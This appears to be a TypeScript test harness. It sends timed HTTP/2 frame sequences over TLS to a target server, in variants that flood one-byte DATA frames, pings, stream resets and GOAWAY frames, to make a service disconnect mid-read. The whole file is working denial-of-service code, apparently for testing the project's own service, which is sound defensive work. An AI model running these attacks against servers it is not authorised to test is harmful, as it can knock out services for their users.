/**
 * Requests and pieces of bodies so placed in TLS records that the service writes while nghttp2 reads, and would disconnect
 * in the middle of that read.
 *
 * @module
 */
import { setMaxListeners } from 'node:events'
import type { Socket } from 'node:net'
import type { Target } from '../target.ts'
import {
  ACK,
  DATA,
  END_HEADERS,
  frame,
  GOAWAY,
  HEADERS,
  PING,
  PREFACE,
  requestHead,
  RST_STREAM,
  SETTINGS,
  startTls,
  WINDOW_UPDATE,
} from './http2-frames.ts'
import { openConnection, pause } from './raw-connection.ts'

type Frames = (bodies: readonly number[]) => Buffer[]

export interface RecordAttack {
  /** Requests whose bodies are waited for. */
  readonly bodies: number
  readonly path: string
  /** Pieces of 1 byte that each of them gets before the last record. */
  readonly pieces: number
  /** File whose reply is large. */
  readonly large: string
  /** Frames of the last record, after the request for the file. */
  readonly last: Frames
  /** Whether the client resets its connection after the last record. */
  readonly resets?: boolean
}

const ONE = Buffer.from('a')
const LARGEST = Buffer.of(0x7f, 0xff, 0xff, 0xff)
/** Initial window: the largest. */
const SETTING = Buffer.concat([Buffer.of(0, 4), LARGEST])
const WINDOW = Buffer.of(0x7f, 0, 0, 0)
const CANCEL = Buffer.of(0, 0, 0, 8)
const ENHANCE_YOUR_CALM = Buffer.of(0, 0, 0, 0, 0, 0, 0, 11)

const pieceOf = (stream: number) => frame(DATA, { stream, payload: ONE })
const ping = frame(PING, { payload: Buffer.alloc(8) })
const repeat = (bytes: Buffer, times: number) => Array.from({ length: times }, () => bytes)
const tooMany: Frames = (bodies) => bodies.flatMap((each) => repeat(pieceOf(each), 130))

/** Variants of one attack; paths and files are those of every service with players. */
export const RECORD_ATTACKS: Readonly<Record<string, RecordAttack>> = {
  'pieces that are too many': variant({}),
  'many requests': variant({ bodies: 8, pieces: 127 }),
  'bodies of requests for files': variant({ path: '/watch/assets/hls.min.js' }),
  'bodies of requests for nothing': variant({ path: '/nowhere' }),
  'a crowd of pings': variant({ last: (bodies) => [...repeat(ping, 50), ...tooMany(bodies)] }),
  'resets before pieces': variant({
    bodies: 90,
    pieces: 1,
    last: (bodies) => [
      ...bodies.slice(2).map((stream) => frame(RST_STREAM, { stream, payload: CANCEL })),
      ...tooMany(bodies.slice(0, 2)),
      ping,
    ],
  }),
  'new requests between pieces': variant({
    last: (bodies) =>
      tooMany(bodies).flatMap((piece, index) =>
        index % 8 === 0 ? [piece, requestOf('/nowhere', 1001 + 2 * index)] : [piece],
      ),
  }),
  'a settings frame between pieces': variant({
    last: (bodies) => tooMany(bodies).flatMap((piece) => [piece, frame(SETTINGS)]),
  }),
  'a client that gives up': variant({
    last: (bodies) => [frame(GOAWAY, { payload: ENHANCE_YOUR_CALM }), ...tooMany(bodies)],
  }),
  'a frame that is not valid': variant({
    last: (bodies) => [ping, ...tooMany(bodies), frame(GOAWAY, { stream: 1 }), ping],
  }),
  'a client that resets its connection': variant({
    last: (bodies) => [ping, ...tooMany(bodies), ping],
    resets: true,
  }),
  'large replies to incomplete requests, then a reset': variant({
    ...{ bodies: 5, path: '/watch/assets/hls.min.js', pieces: 1, resets: true },
    last: (bodies) => bodies.flatMap((each) => [ping, pieceOf(each), pieceOf(each)]),
  }),
}

function variant(changed: Partial<RecordAttack>): RecordAttack {
  return {
    ...{ bodies: 2, path: '/api/status', pieces: 64 },
    ...{ large: '/watch/assets/hls.min.js', last: tooMany },
    ...changed,
  }
}

function requestOf(path: string, stream: number, method = 'POST'): Buffer {
  const payload = requestHead({ method, path, headers: { 'lt-signature': '0'.repeat(64) } })
  return frame(HEADERS, { flags: END_HEADERS, stream, payload })
}

/** @returns number of connections that the service accepted */
export async function sendRecords(
  target: Target,
  signal: AbortSignal,
  { attempts, ...attack }: RecordAttack & { readonly attempts: number },
): Promise<number> {
  setMaxListeners(0, signal)
  let accepted = 0
  for (let attempt = 0; attempt < attempts && !signal.aborted; attempt++) {
    const connection = await openConnection(target.httpPort, target.host, signal)
    if (connection === undefined) continue
    accepted++
    await send(connection.setNoDelay(), signal, attack)
    connection.destroy()
  }
  return accepted
}

async function send(
  connection: Socket,
  signal: AbortSignal,
  { bodies: count, path, pieces, large, last, resets = false }: RecordAttack,
): Promise<void> {
  const socket = await startTls(connection)
  if (socket === undefined) return
  socket.resume()
  const bodies = Array.from({ length: count }, (_, index) => 1 + 2 * index)
  const stream = 1 + 2 * count
  const method = path.startsWith('/watch') ? 'GET' : 'POST'
  // Each is read alone, but for the last two, which are read at once by a service that is busy.
  const records = [
    [
      PREFACE,
      frame(SETTINGS, { payload: SETTING }),
      frame(SETTINGS, { flags: ACK }),
      frame(WINDOW_UPDATE, { payload: WINDOW }),
    ],
    bodies.map((each) => requestOf(path, each, method)),
    bodies.flatMap((each) => repeat(pieceOf(each), pieces)),
    [requestOf(large, stream, 'GET'), ping],
    [...repeat(pieceOf(stream), 2), ...last(bodies)],
  ]
  for (const [index, record] of records.entries()) {
    if (socket.writable) socket.write(Buffer.concat(record))
    if (index !== 3) await pause(20, signal)
  }
  if (resets) connection.resetAndDestroy()
  else await pause(20, signal)
}
